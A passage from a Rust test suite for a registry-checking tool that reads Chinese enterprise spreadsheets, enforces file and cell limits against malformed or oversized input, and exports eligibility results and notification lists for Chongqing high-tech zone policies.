    let options = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
    let ns = "http://schemas.openxmlformats.org";
    let mut sst_xml = format!(r#"<?xml version="1.0"?><sst xmlns="{ns}/spreadsheetml/2006/main" {sst}>"#);
    for text in strings {
        sst_xml.push_str(&format!("<si><t>{text}</t></si>"));
    }
    sst_xml.push_str("</sst>");
    let parts = [
        (
            "[Content_Types].xml",
            format!(
                r#"<Types xmlns="{ns}/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>"#
            ),
        ),
        (
            "_rels/.rels",
            format!(
                r#"<Relationships xmlns="{ns}/package/2006/relationships"><Relationship Id="rId1" Type="{ns}/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#
            ),
        ),
        (
            "xl/workbook.xml",
            format!(
                r#"<workbook xmlns="{ns}/spreadsheetml/2006/main" xmlns:r="{ns}/officeDocument/2006/relationships"><sheets><sheet name="s" sheetId="1" r:id="rId1"/></sheets></workbook>"#
            ),
        ),
        (
            "xl/_rels/workbook.xml.rels",
            format!(
                r#"<Relationships xmlns="{ns}/package/2006/relationships"><Relationship Id="rId1" Type="{ns}/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="{ns}/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>"#
            ),
        ),
        (
            "xl/worksheets/sheet1.xml",
            format!(
                r#"<worksheet xmlns="{ns}/spreadsheetml/2006/main"><sheetData>{sheet_data}</sheetData></worksheet>"#
            ),
        ),
        ("xl/sharedStrings.xml", sst_xml),
    ];
    for (name, content) in parts {
        zip.start_file(name, options).unwrap();
        zip.write_all(content.as_bytes()).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

/// A header row (企业名称) and `rest`, inline strings.
fn sheet_with(rest: &str) -> String {
    format!(r#"<row r="1"><c r="A1" t="inlineStr"><is><t>企业名称</t></is></c></row>{rest}"#)
}

#[test]
fn a_handmade_xlsx_within_the_limits_reads() {
    let far = sheet_with(r#"<row r="2"><c r="A2" t="s"><v>0</v></c><c r="XFD2" t="s"><v>1</v></c></row>"#);
    let batch = read(&handmade_xlsx(&far, r#"count="2" uniqueCount="2""#, &["甲公司", "备注"]));
    assert_eq!(describe(&batch)["rows"], 1);
    let last = sheet_with(r#"<row r="1048576"><c r="B1048576" t="inlineStr"><is><t>乙</t></is></c></row>"#);
    let batch = read(&handmade_xlsx(&last, "", &[]));
    assert_eq!(describe(&batch)["rows"], 1_048_575, "the last row a sheet holds, and the blank rows before it");
}

#[test]
fn an_xlsx_over_a_limit_is_refused_saying_which() {
    let one = sheet_with(r#"<row r="2"><c r="A2" t="s"><v>0</v></c></row>"#);
    for (sst, said) in [
        (r#"uniqueCount="4294967295""#, "say they are 4294967295 but hold at most 1"),
        (r#"uniqueCount="18446744073709551615""#, "say they are 18446744073709551615"),
        (r#"uniqueCount="999999999999999999999999999999999999999999999""#, "more than 2^64"),
        (r#"count="1" uniqueCount = '1000000000'"#, "say they are 1000000000"),
    ] {
        let error = refused(&handmade_xlsx(&one, sst, &["甲公司"]), "auto", "auto");
        assert!(error.contains(said), "{sst}: {error}");
    }
    let cases = [
        (
            sheet_with(r#"<row r="2"><c r="A1048577" t="inlineStr"><is><t>x</t></is></c></row>"#),
            "row 1048577: more rows than a worksheet holds",
        ),
        (sheet_with(r#"<row r="2000000"><c t="inlineStr"><is><t>x</t></is></c></row>"#), "row 2000000: more rows"),
        (
            sheet_with(r#"<row r="2"><c r="XFE2" t="inlineStr"><is><t>x</t></is></c></row>"#),
            "column 16385, more columns",
        ),
        (
            sheet_with(&format!(
                r#"<row r="2"><c r="C2" t="inlineStr"><is><t>{}</t></is></c></row>"#,
                "长".repeat(32_768)
            )),
            "row 2, column 3: a cell longer than 32767",
        ),
        (
            sheet_with(
                &(2..2100)
                    .map(|r| format!(r#"<row r="{r}"><c r="A{r}"><v>1</v></c><c r="XFD{r}"><v>1</v></c></row>"#))
                    .collect::<String>(),
            ),
            "more than 33554432 cells",
        ),
        (sheet_with(&format!("<!--{}-->", " ".repeat(4 << 20))), "inflates to more than 100 times its compressed size"),
    ];
    for (sheet, said) in cases {
        let error = refused(&handmade_xlsx(&sheet, "", &[]), "auto", "auto");
        assert!(error.starts_with("the file is over a limit: ") && error.contains(said), "{said}: {error}");
    }
    let longest =
        sheet_with(&format!(r#"<row r="2"><c r="A2" t="inlineStr"><is><t>{}</t></is></c></row>"#, "长".repeat(32_767)));
    assert_eq!(describe(&read(&handmade_xlsx(&longest, "", &[])))["rows"], 1, "a cell of 32,767 characters is fine");
}

#[test]
fn a_csv_cell_over_32767_characters_is_refused() {
    let longest = format!("企业名称,备注\r\n甲公司,{}\r\n", "长".repeat(32_767));
    assert_eq!(describe(&read(longest.as_bytes()))["rows"], 1);
    let over = format!("企业名称,备注\r\n甲公司,{}\r\n", "长".repeat(32_768));
    assert_eq!(
        refused(over.as_bytes(), "auto", "auto"),
        "the file is over a limit: row 2, column 2: a cell longer than 32767 characters (the most a spreadsheet cell holds)"
    );
}

#[test]
fn the_xlsx_export_is_well_formed_and_keeps_escape_like_text_for_any_cell() {
    let odd = ["\u{FFFE}甲", "乙\u{FFFF}", "_x003D_1+1", "_x0041_", "_xfffe_", "a\u{1}b\u{1F}c", "_x005F_", "_x12_"];
    let mut text = String::from("企业名称,备注_x0041_\r\n");
    for cell in odd {
        text.push_str(&format!("{cell},{cell}\r\n"));
    }
    let mut batch = read(text.as_bytes());
    batch.run(0, batch.rows(), AS_OF).unwrap();
    let exported = batch.export_xlsx().unwrap();
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(exported.as_slice())).unwrap();
    for index in 0..archive.len() {
        let mut part = String::new();
        std::io::Read::read_to_string(&mut archive.by_index(index).unwrap(), &mut part).unwrap();
        let illegal = part.chars().find(
            |c| matches!(*c, '\u{0}'..='\u{8}' | '\u{B}' | '\u{C}' | '\u{E}'..='\u{1F}' | '\u{FFFE}' | '\u{FFFF}'),
        );
        assert_eq!(illegal, None, "XML 1.0 forbids it");
    }
    let back = hitech_eligibility::shell::batch::input::read_xlsx(&exported).unwrap();
    assert_eq!(back.headers[1], "备注_x0041_");
    for (row, cell) in back.rows.iter().zip(odd) {
        assert_eq!(row.cells.to_vec()[..2], [cell, cell], "read back as written");
    }
}

#[test]
fn the_page_is_sent_previews_of_long_cells_and_the_export_whole_cells() {
    let name = "名".repeat(32_767);
    let note = "备".repeat(300);
    let text = format!("企业名称,统一社会信用代码,备注\r\n{name},{note},{note}\r\n乙公司,91500000,短\r\n");
    let mut batch = read(text.as_bytes());
    let described = describe(&batch);
    let preview = format!("{}…", "名".repeat(200));
    assert_eq!(
        described["sample"][0],
        serde_json::json!([preview, format!("{}…", "备".repeat(200)), format!("{}…", "备".repeat(200))])
    );
    assert_eq!(described["sample"][1], serde_json::json!(["乙公司", "91500000", "短"]));
    batch.run(0, 2, AS_OF).unwrap();
    let rows = table(&batch, "", "");
    let names: Vec<&str> = rows["rows"].as_array().unwrap().iter().map(|row| row["name"].as_str().unwrap()).collect();
    assert!(names.contains(&preview.as_str()) && names.contains(&"乙公司"), "{names:?}");
    let export = String::from_utf8(batch.export_csv()).unwrap();
    assert!(export.contains(&format!("\r\n{name},{note},{note},")), "the export keeps the whole cells");
}

#[test]
fn a_quoted_cell_never_closed_is_an_error_not_the_rest_of_the_file_as_one_cell() {
    let open = "企业名称,备注\r\n甲公司,\"未闭合\r\n乙公司,是\r\n丙公司,是\r\n";
    assert_eq!(
        refused(open.as_bytes(), "auto", "auto"),
        "a quoted cell opened on line 2 is never closed: the rest of the file would be read as one cell (a \" missing or one too many)"
    );
    // Quotes as spreadsheets write them, and stray ones inside a cell, are fine.
    let fine = "企业名称,备注\r\n\"甲\"\"乙\"\"\",\"两\r\n行\"\r\n丙,5\"\r\n\"丁\"x,\"\"\r\n";
    let batch = read(fine.as_bytes());
    assert_eq!(describe(&batch)["rows"], 3);
    assert_eq!(describe(&batch)["sample"][0], serde_json::json!(["甲\"乙\"", "两\r\n行"]));
}

#[test]
fn the_page_reads_files_up_to_its_ceiling() {
    use hitech_eligibility::shell::batch::limits::MAX_FILE_BYTES;
    let mut bytes = b"a\r\n".repeat(usize::try_from(MAX_FILE_BYTES).unwrap() / 3 + 1);
    bytes.truncate(usize::try_from(MAX_FILE_BYTES).unwrap() + 1);
    assert_eq!(
        refused(&bytes, "auto", "auto"),
        format!("the file is over a limit: a file of {} bytes; the page reads files up to {MAX_FILE_BYTES} bytes (check --csv streams a CSV of any size)", MAX_FILE_BYTES + 1)
    );
    let limits: Value = json(&hitech_eligibility::shell::batch::limits::page_limits_json());
    assert_eq!(limits["maxFileBytes"], MAX_FILE_BYTES);
    assert_eq!(limits["maxCellChars"], 32_767);
}

#[test]
fn the_page_maps_up_to_1024_columns() {
    let row = |n: usize| (1..=n).map(|i| format!("列{i}")).collect::<Vec<_>>().join(",");
    let widest = format!("企业名称,{}\r\n甲公司\r\n", row(1_023));
    assert_eq!(describe(&read(widest.as_bytes()))["headers"].as_array().unwrap().len(), 1_024);
    let wider = format!("企业名称,{}\r\n甲公司\r\n", row(20_000));
    assert_eq!(
        refused(wider.as_bytes(), "auto", "auto"),
        "the file is over a limit: 20001 columns; the page maps up to 1024 (check --csv reads any number)"
    );
}

#[test]
fn the_csv_export_in_parts_is_the_whole_export() {
    let mut batch = read(&fixture("enterprises-gbk.csv"));
    batch.run(0, batch.rows(), AS_OF).unwrap();
    let whole = batch.export_csv();
    for size in [1, 7, batch.rows(), batch.rows() + 5] {
        let mut joined = Vec::new();
        let mut start = 0;
        loop {
            joined.extend(batch.export_csv_part(start, start + size));
            start += size;
            if start >= batch.rows() {
                break;
            }
        }
        assert!(joined == whole, "parts of {size} rows");
    }
    assert_eq!(batch.export_csv_part(batch.rows(), batch.rows() + 10), b"", "past the end: nothing");
}

#[test]
fn a_zip_entry_that_cannot_be_inflated_refuses_the_file_only_if_it_is_read() {
    use std::io::Write;
    let with_extra = |name: &str| {
        let good = handmade_xlsx(&sheet_with(r#"<row r="2"><c r="A2" t="s"><v>0</v></c></row>"#), "", &["甲公司"]);
        let mut archive = zip::ZipArchive::new(std::io::Cursor::new(good)).unwrap();
        let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        for index in 0..archive.len() {
            let entry = archive.by_index_raw(index).unwrap();
            if entry.name().unwrap() != name {
                out.raw_copy_file(entry).unwrap();
            }
        }
        let stored = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
        out.start_file(name, stored).unwrap();
        out.write_all(b"<marker-of-the-entry/>").unwrap();
        let mut bytes = out.finish().unwrap().into_inner();
        // Its compression method (local and central headers) becomes LZMA (14), which this build cannot inflate.
        let name = name.as_bytes();
        for signature in [&b"PK\x03\x04"[..], b"PK\x01\x02"] {
            let at = (0..bytes.len() - name.len())
                .find(|&i| {
                    bytes[i..].starts_with(signature) && {
                        let name_at = if signature == b"PK\x03\x04" { i + 30 } else { i + 46 };
                        bytes.get(name_at..name_at + name.len()) == Some(name)
                    }
                })
                .unwrap();
            let method = if signature == b"PK\x03\x04" { at + 8 } else { at + 10 };
            bytes[method] = 14;
        }
        bytes
    };
    assert_eq!(describe(&read(&with_extra("xl/media/unused.bin")))["rows"], 1, "not read, not a reason to refuse");
    let error = refused(&with_extra("xl/worksheets/sheet1.xml"), "auto", "auto");
    assert!(error.starts_with("the .xlsx file cannot be read"), "{error}");
}

mod hostile {
    use super::*;
    use proptest::prelude::*;

    /// Cells people (and broken exports) put in registries.
    fn cell() -> impl Strategy<Value = String> {
        prop_oneof![
            Just(String::new()),
            Just("是".to_owned()),
            Just("×".to_owned()),
            Just("200万".to_owned()),
            Just("1,5亿".to_owned()),
            Just("重庆高新区".to_owned()),
            Just("1962年2月30日".to_owned()),
            Just("\"".to_owned()),
            Just("a,b".to_owned()),
            Just("\r\n".to_owned()),
            Just("\u{FEFF}".to_owned()),
            "\\PC{0,12}",
        ]
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

        /// Any bytes: read or refused with a message, never a panic; what is
        /// read runs, summarises and exports with every row kept.
        #[test]
        fn any_bytes_are_read_or_refused(bytes in proptest::collection::vec(any::<u8>(), 0..400)) {
            if let Ok(mut batch) = Batch::read(&bytes, "auto", "auto") {
                let rows = batch.rows();
                batch.run(0, rows, AS_OF).unwrap();
                let _ = batch.summary();
                let exported = batch.export_csv();
                let back = read(&exported);
                prop_assert!(back.rows() <= rows + 1);
            }
        }

        /// A handmade .xlsx with cells anywhere (within and past the sheet's
        /// edges), a shared-strings count that may lie and cells of any
        /// length: read within the limits or refused, never a panic or a
        /// huge allocation.
        #[test]
        fn any_handmade_xlsx_is_read_within_the_limits_or_refused(
            cells in proptest::collection::vec((1u32..1_100_000, 0u32..17_000, 0usize..33_000, any::<bool>()), 0..6),
            unique in prop_oneof![Just(None), (0u64..4).prop_map(Some), any::<u64>().prop_map(Some)],
        ) {
            let mut sheet = String::new();
            for (row, column, length, shared) in &cells {
                let mut name = String::new();
                let mut index = *column as usize + 1;
                while index > 0 {
                    name.insert(0, char::from(b'A' + ((index - 1) % 26) as u8));
                    index = (index - 1) / 26;
                }
                let value = if *shared { format!(r#"t="s"><v>{}</v>"#, length % 3) } else { format!(r#"t="inlineStr"><is><t>{}</t></is>"#, "x".repeat(*length)) };
                sheet.push_str(&format!(r#"<row r="{row}"><c r="{name}{row}" {value}</c></row>"#));
            }
            let sst = unique.map_or(String::new(), |n| format!(r#"uniqueCount="{n}""#));
            let bytes = handmade_xlsx(&sheet_with(&sheet), &sst, &["甲", "乙"]);
            match hitech_eligibility::shell::batch::input::read_xlsx(&bytes) {
                Ok(read) => {
                    prop_assert!(read.rows.len() < 1_048_576);
                    prop_assert!(read.rows.iter().all(|row| row.cells.len() <= 16_384 && row.cells.iter().all(|c| c.chars().count() <= 32_767)));
                    prop_assert!(!matches!(unique, Some(n) if n > 2), "a count over the strings there are is refused");
                }
                Err(error) => {
                    let text = error.to_string();
                    prop_assert!(text.starts_with("the file is over a limit: ") || text.starts_with("the .xlsx file cannot be read"), "{}", text);
                }
            }
        }

        /// Small sheets of text, numbers and empty strings anywhere: the cell
        /// reader gives the rows calamine's own (dense) range gave, as the
        /// reader before the limits read them.
        #[test]
        fn the_cell_reader_reads_what_calamines_range_read(
            cells in proptest::collection::vec((1u32..12, 0u32..6, 0u8..4), 1..25),
        ) {
            use calamine::Reader;
            let mut sheet = String::new();
            let mut rows: Vec<(u32, Vec<(u32, u8)>)> = Vec::new();
            for (row, column, kind) in &cells {
                match rows.iter_mut().find(|(r, _)| r == row) {
                    Some((_, list)) => list.push((*column, *kind)),
                    None => rows.push((*row, vec![(*column, *kind)])),
                }
            }
            rows.sort_by_key(|(row, _)| *row);
            for (row, list) in &mut rows {
                list.sort_by_key(|(column, _)| *column);
                list.dedup_by_key(|(column, _)| *column);
                sheet.push_str(&format!(r#"<row r="{row}">"#));
                for (column, kind) in list.iter() {
                    let name = char::from(b'A' + *column as u8);
                    sheet.push_str(&match kind {
                        0 => format!(r#"<c r="{name}{row}" t="s"><v>0</v></c>"#),
                        1 => format!(r#"<c r="{name}{row}" t="s"><v>1</v></c>"#),
                        2 => format!(r#"<c r="{name}{row}"><v>{row}.5</v></c>"#),
                        _ => format!(r#"<c r="{name}{row}"/>"#),
                    });
                }
                sheet.push_str("</row>");
            }
            let bytes = handmade_xlsx(&sheet, "", &["", "企业名称"]);
            let mut workbook: calamine::Xlsx<_> = calamine::Xlsx::new(std::io::Cursor::new(bytes.clone())).unwrap();
            let range = workbook.worksheet_range_at(0).unwrap().unwrap();
            let first = range.start().map_or(0, |(row, _)| row);
            let trim = |cells: Vec<String>| {
                let mut cells = cells;
                while cells.last().is_some_and(String::is_empty) {
                    cells.pop();
                }
                cells
            };
            let expected: Vec<(u64, Vec<String>)> = range
                .rows()
                .enumerate()
                .map(|(i, cells)| (u64::from(first) + i as u64 + 1, trim(cells.iter().map(|c| c.to_string()).collect())))
                .filter(|(_, cells)| cells.iter().any(|c| !c.trim().is_empty()))
                .collect();
            match hitech_eligibility::shell::batch::input::read_xlsx(&bytes) {
                Ok(read) => {
                    let mut got: Vec<(u64, Vec<String>)> = vec![(0, read.headers.clone())];
                    got.extend(read.rows.iter().filter(|row| !row.is_blank()).map(|row| (row.number, trim(row.cells.to_vec()))));
                    prop_assert_eq!(got.len(), expected.len());
                    prop_assert_eq!(trim(got[0].1.clone()), trim(expected[0].1.iter().map(|c| c.trim().to_owned()).collect()));
                    prop_assert_eq!(&got[1..], &expected[1..]);
                }
                Err(error) => prop_assert!(expected.is_empty(), "{}", error),
            }
        }

        /// Any table of such cells under the usual headers: every row is
        /// either checked or an error row, and exported.
        #[test]
        fn any_cells_make_checked_or_error_rows(rows in proptest::collection::vec(proptest::collection::vec(cell(), 1..6), 1..12)) {
            let mut writer = csv::WriterBuilder::new().flexible(true).from_writer(Vec::new());
            writer.write_record(["企业名称", "所在高新区", "营业收入（万元）", "是否高新技术企业", "出生日期"]).unwrap();
            for row in &rows {
                writer.write_record(row).unwrap();
            }
            let bytes = writer.into_inner().unwrap();
            let mut batch = read(&bytes);
            let count = batch.rows();
            batch.run(0, count, AS_OF).unwrap();
            let summary = summary(&batch);
            prop_assert_eq!(summary["checked"].as_u64().unwrap() + summary["failed"].as_u64().unwrap(), count as u64);
            let exported = batch.export_csv();
            let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(&exported[3..]);
            let widths: Vec<usize> = reader.records().map(|r| r.unwrap().len()).collect();
            prop_assert_eq!(widths.len(), count + 1, "rows in = rows out");
            prop_assert!(widths.iter().all(|w| *w == widths[0]), "{:?}", widths);
            let _ = batch.export_xlsx().unwrap();
        }
    }
}

/// The status of `measure` for the data row numbered `row` (the file's numbering).
fn status_at(batch: &Batch, row: u64, measure: &str) -> String {
    let rows = table(batch, "", "");
    let found = rows["rows"].as_array().unwrap().iter().find(|r| r["row"] == row).unwrap();
    let index = hitech_eligibility::shell::batch::check::measures().iter().position(|m| m.id == measure).unwrap();
    found["statuses"][index].as_str().unwrap_or("error").to_owned()
}

#[test]
fn a_zones_registry_is_matched_with_the_files_zone() {
    let text = trial_registry();
    let gbk = encoding_rs::GB18030.encode(&text).0.into_owned();
    let mut batch = read(&gbk);
    let described = describe(&batch);
    // The title row and the blank row above the header are not data.
    assert_eq!((described["headerRow"].as_u64(), described["skippedRows"].as_u64()), (Some(3), Some(1)));
    assert_eq!(described["rows"], 8);
    let mapping = described["mapping"].as_array().unwrap();
    assert_eq!(mapping[2], "@code");
    assert_eq!(mapping[3], "zone", "所属园区");
    assert_eq!(mapping[6], "highTechCertificateExpiry");
    assert_eq!(mapping[10], "techSme");
    assert_eq!(mapping[11], "listedOnStarMarket", "上市情况");
    assert_eq!((described["units"][7].as_u64(), described["units"][5].as_u64()), (Some(10_000), None), "（万元）");

    // Without the file's zone, a park name is an error that names the value read.
    batch.run(0, 8, TRIAL_AS_OF).unwrap();
    let errors = summary(&batch)["errors"].as_array().unwrap().clone();
    let park = errors.iter().find(|e| e["row"] == 4).unwrap();
    assert_eq!(park["value"], "西永微电子产业园");
    assert_eq!(park["detail"]["value"], "西永微电子产业园");
    assert!(park["problem"].as_str().unwrap().starts_with("\"西永微电子产业园\" is not one of"), "{park}");
    // The examples are the file's province's when it is known.
    batch.set_settings(r#"{"province": "重庆"}"#).unwrap();
    batch.run(0, 8, TRIAL_AS_OF).unwrap();
    let errors = summary(&batch)["errors"].as_array().unwrap().clone();
    let park = errors.iter().find(|e| e["row"] == 4).unwrap();
    assert_eq!(park["detail"]["zones"], serde_json::json!(["chongqing", "bishan", "yongchuan"]));
    assert!(park["problem"].as_str().unwrap().contains("重庆高新技术产业开发区 (chongqing)"), "{park}");

    // With it, every row without a typo is matched.
    batch.set_settings(r#"{"zone": "chongqing"}"#).unwrap();
    batch.run(0, 8, TRIAL_AS_OF).unwrap();
    let s = summary(&batch);
    let errors = s["errors"].as_array().unwrap();
    assert_eq!(errors.len(), 1, "{errors:?}");
    assert_eq!((errors[0]["row"].as_u64(), errors[0]["value"].as_str()), (Some(10), Some("2026-13-01")));
    assert_eq!(s["zoneFromFile"], 6, "the park rows and the blank one; 重庆高新区 is the row's own");
    assert_eq!(s["expiredCertificates"], 1);
    assert_eq!(s["duplicates"], 1);
    assert_eq!(s["invalidCodes"], 1);

    // An expired certificate is no certificate; one valid on the day is.
    let loan = "chongqing.knowledge-value-loan";
    assert_ne!(status_at(&batch, 4, loan), "ineligible");
    assert_eq!(status_at(&batch, 5, loan), "ineligible", "expired 2024-03-12");
    assert_eq!(status_at(&batch, 7, loan), status_at(&batch, 4, loan), "valid through 2026-12-06");
    // 科创板 is listed on the STAR Market; another board is not.
    let star = "chongqing.star-listing-award";
    assert_eq!(status_at(&batch, 4, star), "eligible");
    assert_eq!(status_at(&batch, 5, star), "ineligible", "创业板");
    // 申报中 is unknown, not an error; 已入库 is yes.
    let row6 = &table(&batch, "", "")["rows"][2];
    assert!(row6["error"].is_null());
    assert!(row6["missing"]
        .as_array()
        .unwrap()
        .iter()
        .any(|m| m.as_array().unwrap().contains(&Value::from("techSme"))));

    // The repeated firm is flagged and counted once.
    let rows = table(&batch, "", "");
    let repeated = rows["rows"].as_array().unwrap().iter().find(|r| r["row"] == 8).unwrap();
    assert_eq!(repeated["duplicateOf"], 4);
    let bad = rows["rows"].as_array().unwrap().iter().find(|r| r["row"] == 9).unwrap();
    assert_eq!(bad["invalidCode"], true);
    let counts = s["measures"].as_array().unwrap().iter().find(|m| m["id"] == star).unwrap();
    let counted: u64 = ["eligible", "conditional", "informational", "ineligible", "unknown"]
        .iter()
        .map(|k| counts[k].as_u64().unwrap())
        .sum();
    assert_eq!(counted, 6, "8 rows, one error row, one repeat");
    assert_eq!(counts["eligible"], 1, "甲 once");

    // The export flags them in its code check column.
    let export = batch.export_csv();
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(&export[3..]);
    let table: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let check = table[0].iter().position(|h| h == "code check").unwrap();
    assert_eq!(check, 14);
    assert_eq!(&table[0][check + 1], "error");
    assert_eq!(&table[5][check], "same credit code as row 4");
    assert_eq!(&table[6][check], "invalid credit code (check digit)");
    assert_eq!(&table[1][check], "");
}

#[test]
fn settings_are_checked() {
    let mut batch = read(trial_registry().as_bytes());
    for (json, message) in [
        (r#"{"zone": "火星高新区"}"#, "zone: \"火星高新区\" is not a zone"),
        (r#"{"province": "火星"}"#, "province: \"火星\""),
        (r#"{"zone": "chongqing", "province": "sichuan"}"#, "contradicts zone \"chongqing\""),
        (r#"{"zoen": "chongqing"}"#, "settings: unknown field"),
    ] {
        let error = batch.set_settings(json).unwrap_err().to_string();
        assert!(error.contains(message), "{json}: {error}");
    }
    // A row that states another province keeps it: the file's zone is not forced on it.
    let text = "企业名称,所在省份,所在园区,是否高新技术企业\r\n甲,四川,,是\r\n乙,,,是\r\n";
    let mut batch = read(text.as_bytes());
    batch.set_settings(r#"{"zone": "重庆高新区"}"#).unwrap();
    batch.run(0, 2, TRIAL_AS_OF).unwrap();
    let s = summary(&batch);
    assert_eq!((s["failed"].as_u64(), s["zoneFromFile"].as_u64()), (Some(0), Some(1)));
}

#[test]
fn a_saved_mapping_sets_columns_values_and_the_files_zone_and_reads_back() {
    // Staff added 所在高新区, which names the zone more plainly than the park column.
    let text = "企业名称,所属园区,所在高新区,是否科技型中小企业,是否高新技术企业\r\n\
                甲,西永微电子产业园,重庆高新区,已备案,是\r\n\
                乙,大学城科技园,重庆高新区,入库中,否\r\n";
    let mut batch = read(text.as_bytes());
    assert!(describe(&batch)["mapping"][1].is_null());
    assert_eq!(describe(&batch)["mapping"][2], "zone");
    // A saved mapping gives the zone back to the park column (the other gives it
    // up), with the file's zone for its park names, and reads two values otherwise.
    batch
        .set_mapping_file(
            r#"{"columns": {"所属园区": "zone"}, "zone": "重庆高新区",
                "values": {"是否科技型中小企业": {"已备案": "是", "入库中": null}}}"#,
        )
        .unwrap();
    let described = describe(&batch);
    assert_eq!(described["mapping"][1], "zone");
    assert!(described["mapping"][2].is_null());
    batch.run(0, 2, TRIAL_AS_OF).unwrap();
    let s = summary(&batch);
    assert_eq!((s["failed"].as_u64(), s["zoneFromFile"].as_u64()), (Some(0), Some(2)), "{s}");
    let rows = table(&batch, "", "");
    let tech_sme = |row: usize| {
        rows["rows"][row]["missing"]
            .as_array()
            .unwrap()
            .iter()
            .any(|m| m.as_array().unwrap().contains(&Value::from("techSme")))
    };
    assert!(!tech_sme(0), "已备案 read as 是");
    assert!(tech_sme(1), "入库中 read as unknown");

    // What is saved reads back to the same results.
    batch.set_settings(r#"{"zone": "chongqing"}"#).unwrap();
    batch.run(0, 2, TRIAL_AS_OF).unwrap();
    let saved = batch.mapping_file();
    let json = json(&saved);
    assert_eq!(json["zone"], "chongqing");
    assert_eq!(json["columns"]["所在高新区"], Value::Null);
    assert_eq!(json["columns"]["所属园区"], "zone");
    assert_eq!(json["values"]["是否科技型中小企业"]["已备案"], "是");
    let mut again = read(text.as_bytes());
    again.set_mapping_file(&saved).unwrap();
    again.run(0, 2, TRIAL_AS_OF).unwrap();
    assert_eq!(again.export_csv(), batch.export_csv());

    // A bad mapping is refused, and changes nothing.
    let before = describe(&again)["mapping"].clone();
    for (bad, message) in [
        (r#"{"columns": {"所属园区": "revenue"}}"#, "unknown target \"revenue\""),
        (r#"{"columns": {"所属园区": "zone"}, "zone": "火星"}"#, "zone: \"火星\""),
        (r#"{"column": {}}"#, "unknown field"),
    ] {
        let error = again.set_mapping_file(bad).unwrap_err().to_string();
        assert!(error.starts_with("mapping file:") && error.contains(message), "{error}");
        assert_eq!(describe(&again)["mapping"], before);
    }
}

/// Words as the Chinese page gives them.
const NOTIFY_WORDS_ZH: &str = r#"{
    "row": "行号", "measure": "政策", "status": "结果", "missing": "缺少的信息", "draft": "征求意见稿",
    "title": "科创板上市奖励", "draftMark": "征求意见稿",
    "statuses": {"eligible": "可以申请", "conditional": "尚需他人决定", "unknown": "还需更多信息", "informational": "相关（供参考）"},
    "facts": {"techSme": "是否为科技型中小企业？"}, "separator": "、",
    "decides": "由谁决定", "lang": "zh-Hans", "information": "仅供参考，不是可申请的待遇："
}"#;

#[test]
fn a_notification_list_keeps_the_contacts_says_the_status_in_words_and_lists_each_firm_once() {
    let mut batch = read(trial_registry().as_bytes());
    batch.set_settings(r#"{"zone": "chongqing"}"#).unwrap();
    batch.run(0, usize::MAX, TRIAL_AS_OF).unwrap();
    let star = "chongqing.star-listing-award";
    let csv_bytes = batch.export_notification(star, NOTIFY_WORDS_ZH, "csv").unwrap();
    assert!(csv_bytes.starts_with(b"\xEF\xBB\xBF"), "UTF-8 with a BOM, as utf-8-sig reads it");
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(&csv_bytes[3..]);
    let rows: Vec<Vec<String>> = reader.records().map(|r| r.unwrap().iter().map(str::to_owned).collect()).collect();
    assert_eq!(
        rows[0],
        [
            "行号",
            "企业名称",
            "统一社会信用代码",
            "联系人",
            "联系电话",
            "政策",
            "结果",
            "由谁决定",
            "缺少的信息",
            "征求意见稿"
        ]
    );
    // Only 甲 is eligible; its repeat (row 8) is not listed; nobody ineligible is.
    let eligible: Vec<&Vec<String>> = rows.iter().filter(|r| r[6] == "可以申请").collect();
    assert_eq!(eligible.len(), 1);
    assert_eq!(eligible[0][..5], ["4", "甲科技有限公司", &eligible[0][2], "张三", "13800000001"]);
    assert!(rows.iter().all(|r| r[0] != "8" && r[6] != "ineligible" && r[6] != "不适用"), "{rows:?}");
    assert_eq!(rows[1][6], "可以申请", "eligible first");
    // What is missing, in words.
    let loan =
        batch.notification("chongqing.innovation-voucher", &serde_json::from_str(NOTIFY_WORDS_ZH).unwrap()).unwrap();
    let unknown: Vec<&Vec<String>> = loan.iter().filter(|r| r[6] == "还需更多信息").collect();
    assert!(!unknown.is_empty(), "{loan:?}");
    assert!(unknown.iter().all(|r| !r[8].is_empty() && !r[8].contains("Yuan")), "{unknown:?}");
    // Who decides a voucher, in the catalogue's words, beside its status.
    let approval = |id: &str| match hitech_eligibility::catalogue::measures().find(|m| m.id == id).unwrap().nature {
        Nature::Discretionary(text) | Nature::Restated(text) => text,
        other => panic!("{other:?}"),
    };
    assert!(unknown.iter().all(|r| r[7] == approval("chongqing.innovation-voucher").zh), "{unknown:?}");
    assert_eq!(rows[1][7], "", "an entitlement has nobody else to decide");
    // A restated national rule is information, never a claim: said so, with the rule.
    let words: notify::Words = serde_json::from_str(NOTIFY_WORDS_ZH).unwrap();
    let restated = batch.notification("chongqing.rd-super-deduction", &words).unwrap();
    let informational: Vec<&Vec<String>> = restated.iter().filter(|r| r[6] == "相关（供参考）").collect();
    assert!(!informational.is_empty(), "{restated:?}");
    let rule = approval("chongqing.rd-super-deduction").zh;
    assert!(informational.iter().all(|r| r[7] == format!("仅供参考，不是可申请的待遇：{rule}")), "{informational:?}");
    assert!(restated.iter().all(|r| r[6] != "可以申请" && r[6] != "尚需他人决定"), "{restated:?}");
    // Every row is in Chongqing: Guizhou's restatement of the same rule has no list.
    assert_eq!(summary(&batch)["province"], "chongqing");
    let other = batch.notification("guizhou.rd-super-deduction", &words).unwrap_err().to_string();
    assert!(other.starts_with("measure:") && other.contains("another province"), "{other}");
    let listed = |id: &str| {
        summary(&batch)["measures"].as_array().unwrap().iter().any(|m| m["id"] == id && m["otherProvince"] == false)
    };
    assert!(
        listed("chongqing.rd-super-deduction")
            && listed("national.key-lab-priority")
            && !listed("guizhou.rd-super-deduction")
    );

